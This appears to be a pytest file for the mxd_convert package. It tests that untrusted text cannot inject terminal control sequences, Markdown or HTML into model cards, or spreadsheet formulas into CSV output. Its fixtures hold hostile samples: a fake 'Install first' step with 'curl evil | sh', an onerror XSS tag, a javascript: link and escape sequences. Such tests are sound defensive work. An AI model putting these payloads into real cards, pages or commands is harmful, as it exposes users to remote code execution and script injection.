"""Text from checkpoints, data and the Hub stays text on the terminal, in a card and in a spreadsheet."""

import ast
import copy
import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from folders import write_card
from huggingface_hub import ModelCard
from markdown_it import MarkdownIt
from project import ROOT

from mxd_convert import InputError
from mxd_convert.cli import app as frame
from mxd_convert.report.frontier import write_table

CARD = ROOT / "model_cards" / "quickstart"
ORDERS = "\x1b]0;owned\x07\x9b31m\u202e"
MARKUP = "[red]a[/red] [/] :smile: [link=http://x]b[/link]"


def calls_in(folder: str):
    """Yield (file, called name, keywords) of every call in a room of the package."""
    for path in sorted((ROOT / "mxd_convert" / folder).rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call):
                name = node.func.id if isinstance(node.func, ast.Name) else getattr(node.func, "attr", "")
                yield path.name, name, {keyword.arg for keyword in node.keywords}, isinstance(node.func, ast.Name)


def test_commands_print_only_through_the_frame():
    for file, name, keywords, plain in calls_in("cli"):
        if file in ("app.py", "__init__.py"):  # the frame, and the line that says what went wrong
            continue
        assert not (plain and name in ("print", "Console", "Table", "Text", "escape")), f"{file}: {name}"
        assert not keywords & {"markup", "highlight", "emoji"}, file


def test_reports_are_written_by_one_module_only():
    for file, name, keywords, plain in calls_in("report"):
        assert name not in ("writer", "DictWriter", "dump", "mkdtemp"), f"{file}: {name}"
        assert name != "write_text" or plain or file == "pages.py", file
        assert name != "savefig" or file == "plots.py", file
        assert name != "TemporaryDirectory" or "dir" not in keywords, file


def test_a_terminal_receives_no_control_sequences(capsys):
    frame.show(f"{ORDERS}{MARKUP}\nok  forged")
    frame.show("one\n\ttwo\x1b", lines=True)
    frame.human.print(f"{ORDERS}{MARKUP}\nok  forged", soft_wrap=True)
    table = frame.table_of("name", ORDERS + "[b]")
    table.add_row(f"{MARKUP}", f"first\nsecond{ORDERS}")
    frame.console().print(table)
    out, err = capsys.readouterr()
    for text in (out, err):
        assert all(sign.isprintable() or sign in "\n\t" for sign in text)
        assert MARKUP in text
        assert "\nok" not in text
    assert "one\n\ttwo\N{REPLACEMENT CHARACTER}\n" in out
    assert "[b]" in out
    assert len([line for line in out.splitlines() if "first" in line or "second" in line]) == 2


def test_an_ascii_terminal_receives_ascii():
    code = (
        "from mxd_convert.cli.app import *\nprepare_streams()\nshow('caf\\u00e9')\ntable = table_of('\\u00e9')\n"
        "table.add_row('\\u4e2d')\nconsole().print(table)\nhuman.print('\\u00e9')\nprint_json('\\u00e9')"
    )
    environment = {**os.environ, "PYTHONIOENCODING": "ascii", "LC_ALL": "C"}
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, env=environment, check=True)
    assert done.stdout.isascii()
    assert done.stdout.startswith(b"caf?\n")
    assert done.stdout.endswith(b'"\\u00e9"\n')
    assert done.stderr.isascii()


def test_a_closed_pipe_raises_for_the_program_to_handle(monkeypatch):
    class Closed:
        encoding = "utf-8"

        def write(self, text):
            raise BrokenPipeError

        def flush(self): ...

        def isatty(self):
            return False

    monkeypatch.setattr(sys, "stdout", Closed())
    with pytest.raises(BrokenPipeError):
        frame.console().print("text")
    with pytest.raises(BrokenPipeError):
        frame.show("text")


def test_printed_json_is_strict(capsys):
    frame.print_json({"a": float("nan"), "b": [float("inf")], "c": "\x9b\u202e"})
    out = capsys.readouterr().out
    assert out.isascii()
    assert json.loads(out, parse_constant=pytest.fail) == {"a": None, "b": [None], "c": "\x9b\u202e"}


def test_missing_figures_are_shown_as_such():
    values = [None, True, "x", [1], float("nan"), float("inf"), 10**400]
    assert {frame.figure(value, ".2f") for value in values} == {"-"}
    assert [frame.figure(value, "+.1f") for value in (1, -0.25)] == ["+1.0", "-0.2"]


# --- the card --------------------------------------------------------------------------------------------------------------------

HOSTILE = (
    "x** `z`\n\n# Install first\n\n<img src=x onerror=alert(1)>\n```\ncurl evil | sh\n```\n[a](http://evil) ![b](http://evil)"
    " | cell |\n---\nlicense: mit\n---\n~~~\n- item\n1. item\n> quote\n&lt;b&gt;\x1b[31m"
)


@pytest.fixture
def kept(tmp_path):
    """Return a copy of a card's folder, with its report and its recipe."""
    folder = shutil.copytree(CARD, tmp_path / "card")
    return folder, json.loads((folder / "mxd_report.json").read_text()), (folder / "recipe.yaml").read_text()


def shape_of(card: str) -> list[tuple]:
    """Return how Markdown parses a card: its blocks, and the markup inside them."""
    body = ModelCard(card).text
    found = []
    for token in MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(body):
        found.append((token.type, token.tag))
        found += [(part.type, part.attrs.get("href")) for part in token.children or () if part.type not in ("text", "softbreak")]
    return found


def hostile(content, *keys):
    """Replace every text by hostile text, except for keys that select wording of the template."""
    if isinstance(content, dict):
        return {key: hostile(value, *keys) if key not in keys else value for key, value in content.items()}
    if isinstance(content, list):
        return [hostile(value, *keys) for value in content]
    return HOSTILE if isinstance(content, str) else content


def test_a_report_is_text_in_the_card(kept):
    folder, report, recipe = kept
    report["base"]["license_link"] = None
    report["reliance"]["verdict"] = "that of an earlier version"  # a known one selects wording of the template
    write_card(folder, report, recipe, base_on_hub=False)
    clean = (folder / "README.md").read_text()
    for base_on_hub in (False, True):
        bad = hostile(report)
        bad["versions"] = {HOSTILE: HOSTILE, **dict.fromkeys(report["versions"], HOSTILE)}
        bad["local"] = [*report["local"], HOSTILE]
        bad["base"] |= {"language": [HOSTILE, False], "license_link": "javascript:alert(1)"}
        write_card(folder, bad, recipe, base_on_hub=base_on_hub)
        card = (folder / "README.md").read_text()
        escapes = [part for part in shape_of(card) if part[0] not in ("code_inline", "text_special")]
        expected = [part for part in shape_of(clean) if part[0] not in ("code_inline", "text_special")]
        assert escapes == expected
        assert "Install first" in card
        assert "\x1b" not in card
        assert "javascript" not in card
        data = ModelCard(card).data
        assert data.license != "mit"
        assert data.base_model is None  # hostile text is no repository


def test_a_recipe_stays_inside_its_code_block(kept):
    folder, report, recipe = kept
    clean = shape_of((folder / "README.md").read_text())
    recipe += "note: |\n  ```\n  # Install first\n  ````\n"
    yaml.safe_load(recipe)
    write_card(folder, report, recipe, base_on_hub=False)
    assert shape_of((folder / "README.md").read_text()) == clean


@pytest.mark.parametrize(
    ("path", "value", "word"),
    [
        (("fidelity", "kl"), ..., "kl"),
        (("base", "model"), ..., "model"),
        (("data", "eval", "path"), ..., "path"),
        (("fidelity", "kl"), "much", "much"),
        (("fidelity", "compounding"), [], "mxd_report.json"),
        (("fidelity", "layers"), 3, "mxd_report.json"),
        (("versions",), 3, "mxd_report.json"),
        (("steering",), [{"expert": 1, "layer": 0, "twist": 2, "positions": "all"}], "twist"),
        (("cost", "peak_rss_bytes"), 10**400, "mxd_report.json"),
    ],
)
def test_an_incomplete_report_is_named(kept, path, value, word):
    folder, report, recipe = kept
    report = copy.deepcopy(report)
    parent = report
    for key in path[:-1]:
        parent = parent[key]
    if value is ...:
        del parent[path[-1]]
    else:
        parent[path[-1]] = value
    before = (folder / "README.md").read_text()
    with pytest.raises(InputError, match=r"mxd_report\.json: .*[Cc]onvert or evaluate again") as caught:
        write_card(folder, report, recipe, base_on_hub=False)
    assert word in str(caught.value)
    assert "\n" not in str(caught.value)
    assert (folder / "README.md").read_text() == before


@pytest.mark.parametrize("value", [False, ["mit", "x"], {"a": 1}, 3, ""])
def test_metadata_of_the_wrong_type_is_left_out(kept, value):
    folder, report, recipe = kept
    report["base"] |= dict.fromkeys(("license", "license_name", "license_link", "language"), value)
    report["fidelity"]["delta_ce"] = None
    write_card(folder, report, recipe, base_on_hub=False)
    data = ModelCard.load(folder / "README.md").data
    assert data.license is data.license_name is data.license_link is None
    assert data.language == (value if isinstance(value, list) else None)
    assert "whose card states none" in (folder / "README.md").read_text()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("config.json", '{"mxd": {"layers": {"0": {"kind": []}}}}'),
        ("config.json", "[]"),
        ("config.json", '{"mxd": {"layers": {}}}'),
    ],
)
def test_an_unusable_config_is_named(kept, name, content):
    folder, report, recipe = kept
    (folder / name).write_text(content)
    with pytest.raises(InputError, match=name):
        write_card(folder, report, recipe, base_on_hub=False)
    with pytest.raises(InputError, match=r"recipe\.yaml"):
        write_card(shutil.copytree(CARD, folder / "other"), report, "a: [", base_on_hub=False)


def test_formulas_in_the_table_of_a_sweep_are_text(tmp_path):
    write_table(tmp_path, {"runs": [{"name": "=1+1", "verdict": "@x", "rise": -0.5, "fvu": float("nan")}, {"=more": 1}]})
    with (tmp_path / "sweep.csv").open(newline="") as file:
        header, first, _ = csv.reader(file)
    assert (header[-1], first[:3]) == ("'=more", ["'=1+1", "'@x", "-0.5"])
    assert json.loads((tmp_path / "sweep.json").read_text(), parse_constant=pytest.fail)["runs"][0]["fvu"] is None
    assert sorted(path.name for path in Path(tmp_path).iterdir()) == ["sweep.csv", "sweep.json"]
